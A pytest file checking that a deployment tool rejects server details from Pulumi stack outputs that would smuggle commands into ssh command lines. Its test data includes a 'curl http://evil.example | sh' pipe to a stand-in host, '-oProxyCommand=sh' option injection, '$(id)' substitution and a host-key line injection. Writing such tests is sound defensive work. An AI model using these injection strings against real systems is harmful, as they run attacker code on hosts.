"""What a cloud says of a server stands in command lines later, so it has to look like what it is."""

from typing import Any

import pytest

from providers.driving.state import State
from pse.core.errors import RemoteError

GOOD = {"name": "web", "id": "1", "address": "10.0.0.5", "ssh_port": 22, "ssh_user": "admin", "host_key": ""}


def built(**changed: Any) -> State:
    outputs = {"servers": [{**GOOD, **changed}]}
    return State({"resources": [{"type": "pulumi:pulumi:Stack", "urn": "urn", "outputs": outputs}]})


@pytest.mark.parametrize(
    "changed",
    [
        {"ssh_user": "root; curl http://evil.example | sh"},
        {"ssh_user": "-oProxyCommand=sh"},
        {"ssh_user": "root\n"},
        {"address": "-oProxyCommand=sh"},
        {"address": "10.0.0.5 $(id)"},
        {"address": "10.0.0.5\n"},
        {"ssh_port": 70000},
        {"host_key": "ssh-ed25519 AAAA\n@cert-authority * ssh-ed25519 BBBB"},
    ],
)
def test_word_that_would_be_a_command_is_no_servers(changed: dict[str, Any]) -> None:
    with pytest.raises(RemoteError, match="outputs cannot be read"):
        built(**changed).deployment(stack="portal", plan="", unit_hash="", place="")


@pytest.mark.parametrize(
    "changed", [{}, {"address": "2001:db8::5", "ssh_user": "cloud-user"}, {"host_key": "ssh-ed25519 AAAA+/= web 1"}]
)
def test_word_of_a_server_is_kept(changed: dict[str, Any]) -> None:
    (server,) = built(**changed).deployment(stack="portal", plan="", unit_hash="", place="").servers
    assert {name: getattr(server, name) for name in changed} == changed
